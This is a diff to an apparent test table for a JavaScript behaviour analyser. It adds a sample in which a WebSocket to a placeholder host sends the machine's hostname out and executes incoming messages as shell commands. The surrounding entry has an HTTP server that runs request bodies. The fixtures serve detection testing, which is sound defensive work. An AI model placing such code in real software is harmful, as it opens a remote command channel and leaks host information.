@@ -669,6 +669,11 @@ table('JavaScript: files of another package', [
 
 table('JavaScript: what comes in, what was written', [
   [
+    'a message to a handler that is a property',
+    `const w = new WebSocket('wss://host.invalid'); w.onopen = () => w.send(require('os').hostname()); w.onmessage = (m) => ${CP}.exec(m.data)`,
+    'websocket to:other | websocket carries:host | run-shell carries:download',
+  ],
+  [
     'a request body that is run',
     `require('http').createServer((q, r) => { let b = []; q.on('data', (c) => b.push(c)).on('end', () => ${CP}.exec(Buffer.concat(b).toString())) }).listen(1)`,
     'run-shell carries:download | listen',
